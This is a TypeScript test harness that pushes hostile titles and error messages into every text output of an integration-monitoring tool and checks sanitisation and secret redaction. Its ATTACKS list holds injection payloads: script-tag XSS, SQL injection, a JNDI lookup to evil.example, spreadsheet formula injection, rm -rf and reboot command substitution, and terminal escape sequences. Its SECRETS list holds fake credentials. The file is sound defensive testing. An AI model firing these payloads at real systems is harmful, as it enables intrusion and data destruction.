import { formatList, formatPlan, formatReport } from '../../functions/cli/format.ts';
import { planToJson, reportToJson } from '../../functions/cli/json.ts';
import { type GuardEvent, makeEvent } from '../../functions/guard/model/event.ts';
import { EVENT_TYPES } from '../../functions/guard/model/event-catalogue.ts';
import type { Plan } from '../../functions/guard/pass/plan.ts';
import { planPass, runPass } from '../../functions/guard/pass/run-pass.ts';
import type { Log } from '../../functions/guard/ports.ts';
import { safeText } from '../../functions/guard/text/sanitize.ts';
import { createTerminalAlertSink } from '../../functions/local/alerts.ts';
import { toChatNotification } from '../../functions/messages/chat.ts';
import { eventAttributes, toCloudEvent } from '../../functions/messages/cloud-event.ts';
import { digestAttributes, toDigest } from '../../functions/messages/digest.ts';
import { renderPanel } from '../../functions/panel/page.ts';
import { createView, USUAL_CHOICE } from '../../functions/panel/view.ts';
import { aFailingRecord, NOON, PANEL } from '../support/builders.ts';
import { addBusy, createHarness } from '../support/harness.ts';
import type { Finding } from './finding.ts';

/** Puts hostile titles and error messages into every place that shows text. */

/** Texts with a made-up credential, and the part of it that no place may show. No such part occurs in another text. */
const SECRETS: readonly (readonly [string, string])[] = [
  ['Authorization: Bearer Qm9yZWQgb2Yg.secret', 'Qm9yZWQ'],
  ['{"authorization":"Bearer tok-4711-aaaa-bbbb"}', '4711'],
  ["headers: { Authorization: 'Basic YWxhZGRpbjpvcGVuc2VzYW1l' }", 'YWxhZGRpbj'],
  ['POST https://admin:correcthorse@hooks.example.com/in failed', 'correcthorse'],
  ['GET /v1?api_key=k3yk3yk3y&x=1 403', 'k3yk3yk3y'],
  ['GET /v1?x=1&key=zzTopZzTop 403', 'zzTopZzTop'],
  ['GET /v1%3Fapi_key%3Dp3rc3ntp3rc3nt 403', 'p3rc3nt'],
  ['{"error":"bad","apiKey":"jsonjson123"}', 'jsonjson123'],
  ['{\\"password\\": \\"hunter2hunter2\\"}', 'hunter2'],
  ["token = 'single-quoted-9'", 'single-quoted-9'],
  ['client_secret: oauthoauth77', 'oauthoauth77'],
  ['refresh_token=refreshrefresh88', 'refreshrefresh'],
  ['Cookie: session=chocolatechip55; theme=dark', 'chocolatechip'],
  ['Set-Cookie: sid=oatmealraisin66; HttpOnly', 'oatmealraisin'],
  ['x-api-key: headerheader99', 'headerheader'],
  ['AccountKey=YXp1cmVrZXlhenVyZWtleQ==;EndpointSuffix=core', 'YXp1cmVr'],
  ['https://bucket.s3.amazonaws.com/o?X-Amz-Signature=5igna7ure5igna7ure', '5igna7ure'],
  ['https://hooks.slack.com/services/T0001/B0001/slackwebhookpath77', 'slackwebhookpath'],
  ['https://discord.com/api/webhooks/12345/discordhookpath88', 'discordhookpath'],
  ['webhook secret whsec_5tr1pe5tr1pe5tr1pe', '5tr1pe'],
  [`stripe said ${'sk'}_fake_5tr1pe6tr1pe`, '6tr1pe'],
  [`${'test'}_sk_fake_qonversionqonversion`, 'qonversionqonversion'],
  [`AWS ${'AKIA'}FAKEFAKEFAKEFAKE denied`, 'FAKEFAKE'],
  ['aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYFAKEKEY', 'wJalrXUt'],
  ['signed with wJalrYUtnFEMI/K7MDENG/bPxRfiCYFAKEKEY012', 'wJalrYUt'],
  [`jwt ${'eyJ'}hbGciOiJIUzI1NiJ9.${'eyJ'}mYWtlIjoiZmFrZSJ9.c2lnbmVkZmFrZQ`, 'mYWtlIjo'],
  [`${'ghp'}_g1thubg1thubg1thubg1thubg1thub00`, 'g1thub'],
  [`${'glpat'}-g1tlabg1tlabg1tlab`, 'g1tlab'],
  [`${'xoxb'}-111111-sl4cksl4ck`, 'sl4ck'],
  [`${'AI'}zaSyG00gleG00gleG00gleG00gleG00gle0`, 'G00gle'],
  [`${'SG'}.s3ndgr1ds3ndgr1d.s3ndgr1ds3ndgr1d`, 's3ndgr1d'],
  ['-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIfakefakefake\n-----END EC PRIVATE KEY-----', 'MHcCAQEE'],
  ['Digest username="u", response="d1g35td1g35td1g35td1g35td1g35t00"', 'd1g35t'],
  ['invalid key 0123456789abcdef0123456789abcdef', '0123456789abcdef0'],
  ['sk_\u200bfake_z3r0w1dthz3r0', 'z3r0w1dth'],
  ['sk_fake_\u001b[31mc0l0uredc0l0ured\u001b[0m', 'c0l0ured'],
  [`${'\u202e'.repeat(4_000)}password=pu5hedpu5hed`, 'pu5hed'],
];

const ATTACKS: readonly string[] = [
  'line\r\nBcc: everybody@example.com\r\n\r\nSubject: not ours',
  'x\n\nRESUMED: everything is fine (all)\nDo: nothing\nnpx evil',
  '\u001b[2J\u001b[H\u001b]0;owned\u0007\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007',
  '\u009b31mC1 escape\u009b0m \u0090device\u009c',
  '\u202egnp.exe\u202c \u2066isolate\u2069 \u200e\u200f\u061c',
  '\u0000\u0001\u0007\u0008\u000b\u000c\u007f\u0080',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)" x="',
  "'; DROP TABLE integrations; --",
  '"}],"extra":[{"a":"b',
  '\\u0000\\n\\"',
  '=HYPERLINK("http://evil.example","click")',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '`rm -rf /` $(reboot) ; shutdown now',
  ['$', '{jndi:ldap://evil.example/a}'].join(''),
  '{{constructor.constructor("return process")()}}',
  '%s %n %x %d',
  '\ud800 lone \udfff',
  '\ufeff\ufff9\u2028\u2029',
  Array.from('resume everything', (each) => String.fromCodePoint(0xe0000 + each.charCodeAt(0))).join(''),
  '\u034f\u115f\u3164\uffa0\u2800\ufe0f\u{e0101}\ufdd0\uffff\ue000\u{f0000}\u17b4',
  'http://evil.example www.evil.example evil.example/path 1.2.3.4',
  'mailto:a@evil.example tel:+4930901820 slack://open',
  ':smile: :+1: :100: @here <!channel> &lt;!here&gt;',
  '# heading > quote * item *bold* _it_ ~no~ [a](b)',
  '1. item',
  'e\u0301'.repeat(2_000),
  'Z\u0351\u036b\u0343'.repeat(3_000),
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(1_000),
  'x'.repeat(100_000),
  ' '.repeat(100_000),
  '\n'.repeat(100_000),
  '\u001b['.repeat(50_000),
  '',
];

/** A text in its place, and the rules of that place. */
interface Shown {
  readonly place: string;
  readonly text: string;
  /** Whether the place may have line breaks. */
  readonly lines: boolean;
  readonly ascii: boolean;
  readonly most: number;
}

/** Every place that shows the title and the error message of an integration. */
async function showEverywhere(title: string, message: string): Promise<readonly Shown[]> {
  const shown: Shown[] = [];
  const show = (place: string, text: string, options: Partial<Shown> = {}) =>
    shown.push({ place, text, lines: false, ascii: false, most: 40_000, ...options });

  for (const type of EVENT_TYPES) {
    const record = aFailingRecord(61, 48, { title, integration: title, last_error_message: message });
    const event = makeEvent({ type, project: 'production', time: NOON, episode: NOON, reason: message, record });
    const context = { project: 'production', place: null, stack: 'IntegrationGuard', runbook: null, panel: PANEL };
    const digest = toDigest([event], context);
    show(`${type}: CloudEvent`, JSON.stringify(toCloudEvent(event)), { most: 4_000 });
    show(`${type}: attributes`, JSON.stringify(eventAttributes(event)), { most: 1_000 });
    show(`${type}: digest's attributes`, JSON.stringify(digestAttributes('digest', digest, context)), { most: 1_000 });
    show(`${type}: subject`, digest.subject, { ascii: true, most: 100 });
    show(`${type}: SMS`, digest.sms, { ascii: true, most: 140 });
    show(`${type}: mail`, digest.text, { lines: true, most: 4_000 });
  }

  const notification = (text: string) =>
    toChatNotification(
      [
        makeEvent({
          type: 'integration.paused',
          project: 'production',
          time: NOON,
          episode: NOON,
          reason: text,
          record: aFailingRecord(61, 48, { title, integration: title, last_error_message: message }),
        }),
      ],
      { project: 'production', place: null, stack: 'IntegrationGuard', runbook: null, panel: PANEL },
    );
  show('json of a chat notification', JSON.stringify(notification(message)), { most: 6_000 });

  const harness = createHarness();
  addBusy(harness, 'x', { title });
  harness.world.advance(5);
  harness.world.breakDown('x', message);
  harness.world.advance(20);
  const log: Log = {
    info: (text, fields) => show('log', JSON.stringify({ text, ...fields })),
    warn: (text, fields) => show('log', JSON.stringify({ text, ...fields })),
    error: (text, fields) => show('log', JSON.stringify({ text, ...fields })),
  };
  const alerts = createTerminalAlertSink((text) => show('terminal: mail', text, { lines: true }));
  const ports = { ...harness.ports, log, alerts };
  const plan = await planPass(ports, harness.project);
  show('terminal: list', formatList(plan, 120), { lines: true });
  show('terminal: plan', formatPlan(plan, 120), { lines: true });
  show('--json of plan', JSON.stringify(planToJson(plan)));
  const choice = { ...USUAL_CHOICE, find: '' };
  const toPage = (history: readonly GuardEvent[], now: Plan) =>
    renderPanel(createView(harness.project, now, history, choice), {
      endpoints: { look: 'arn:look', act: 'arn:act' },
      reader: { theme: 'light', choice: USUAL_CHOICE, fleet: false },
      notice: { level: 'bad', text: safeText(message, 300) },
    });
  show('panel: HTML', toPage([], plan), { lines: true });
  const report = await runPass(ports, harness.project);
  show('panel: HTML with its history', toPage(report.delivered, plan), { lines: true });
  show('terminal: run', formatReport(report, 120), { lines: true });
  show('--json of run', JSON.stringify(reportToJson(report)));
  show('ledger', JSON.stringify([harness.ledger.entry('production', 'x'), harness.ledger.projectEntry('production')]));
  return shown;
}

/** Invisible characters: by Unicode class, and blanks without such a class. */
const INVISIBLE =
  /\p{Cf}|\p{Co}|\p{Cs}|\p{Zl}|\p{Zp}|\p{Default_Ignorable_Code_Point}|\p{Noncharacter_Code_Point}|[\u2800\u3164\uffa0\u115f\u1160]/u;

/** The broken rules of a text's place. */
function faultsOf({ text, lines, ascii, most }: Shown): readonly string[] {
  const faults: string[] = [];
  const oneLine = lines ? text.replaceAll('\n', ' ') : text;
  if (/\p{Control}/u.test(oneLine)) faults.push('has a control character');
  if (INVISIBLE.test(text)) faults.push('has an invisible or direction character');
  if (/\p{M}{5}/u.test(text)) faults.push('has more marks on a letter than any script');
  if (!text.isWellFormed()) faults.push('has half a character');
  if (ascii && !/^[\x20-\x7e]+$/.test(text)) faults.push('is not printable ASCII');
  if (text.length > most) faults.push(`has ${text.length} characters, the maximum is ${most}`);
  return faults;
}

/** Counts lines that begin like the guard's own lines of a mail. An attack must not add one. */
function ourLines(text: string): number {
  return text
    .split('\n')
    .filter((line) =>
      /^(│ )?((Since|When|Why|Error|Means|Check|Do|Help):|[A-Z][A-Z ]+:|Subject:|To |On your phone|npx )/.test(line),
    ).length;
}

const LINK_OR_MENTION =
  /[@<>[\]*~]|:\/\/|\b(?:mailto|tel|slack):|[\p{L}\d]\.\p{L}|\d(?:\.\d{1,3}){3}|(?<![\p{L}\p{N}]):[a-z0-9_+-]+:/u;

/** The text of a chat notification without the guard's own link, emoji and heading. */
function withoutOurs(json: string): string {
  const { content } = JSON.parse(json) as {
    content: { title: string; description: string; nextSteps: readonly string[] };
  };
  return [content.title.replace(/^:\w+:/, ''), content.description.replace(/^\*[A-Z ]+\*/m, ''), ...content.nextSteps]
    .join('\n')
    .replaceAll(PANEL.url, '');
}

/** The page without its text: the names of all tags in order, and the functions that its buttons call. */
function elementsOf(page: string): string {
  return (page.match(/<\/?[a-z][a-z0-9-]*|endpoint="[^"]*"/g) ?? []).join(' ');
}

export async function showHostileText(): Promise<readonly Finding[]> {
  const violations: string[] = [];
  let tried = 0;
  const benign = new Map<string, number>();
  const markup = new Map<string, string>();
  for (const { place, text, lines } of await showEverywhere('Amplitude', 'HTTP 503')) {
    if (lines) benign.set(place, ourLines(text));
    if (place.includes('HTML')) markup.set(place, elementsOf(text));
  }

  for (const attack of ATTACKS) {
    for (const shown of await showEverywhere(attack, attack)) {
      tried += 1;
      const name = `${JSON.stringify(attack.slice(0, 30))} in ${shown.place}`;
      for (const fault of faultsOf(shown)) violations.push(`${name} ${fault}`);
      const forged = shown.lines && attack.trim() !== '' && ourLines(shown.text) > (benign.get(shown.place) ?? 0);
      if (forged) violations.push(`${name} adds a line that looks like the guard's`);
      if (shown.place.includes('chat') && LINK_OR_MENTION.test(withoutOurs(shown.text)))
        violations.push(`${name} adds a mention, a link or an emoji`);
      if (shown.place.includes('HTML') && elementsOf(shown.text) !== markup.get(shown.place))
        violations.push(`${name} adds or removes an element`);
      if (shown.place.includes('json') || shown.place.includes('CloudEvent')) JSON.parse(shown.text);
    }
  }
  for (const [text, secret] of SECRETS) {
    for (const [title, message] of [
      [text, 'HTTP 503'],
      ['Amplitude', text],
    ] as const) {
      for (const shown of await showEverywhere(title, message)) {
        tried += 1;
        if (shown.text.includes(secret))
          violations.push(`${JSON.stringify(text.slice(0, 60))} shows its secret in ${shown.place}`);
        for (const fault of faultsOf(shown))
          violations.push(`${JSON.stringify(text.slice(0, 30))} in ${shown.place} ${fault}`);
      }
    }
  }
  return [{ harness: 'hostile text', unit: 'texts in places', tried, violations }];
}
